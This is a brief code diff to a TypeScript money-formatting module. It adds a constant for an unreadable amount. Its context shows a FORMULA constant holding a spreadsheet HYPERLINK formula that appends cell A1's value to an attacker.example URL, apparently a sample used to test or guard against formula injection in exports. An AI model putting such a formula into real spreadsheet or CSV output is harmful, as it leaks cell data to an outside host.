@@ -37,5 +37,8 @@ export function hundredths(minor: number): string {
   return `${minor < 0 ? '-' : ''}${digits.slice(0, -2)}.${digits.slice(-2)}`;
 }
 
+/** What no reader takes for an amount. */
+export const UNREADABLE = '--';
+
 /** What a spreadsheet would take for a formula. */
 export const FORMULA = `=HYPERLINK("http://attacker.example/"&A1;"open")`;
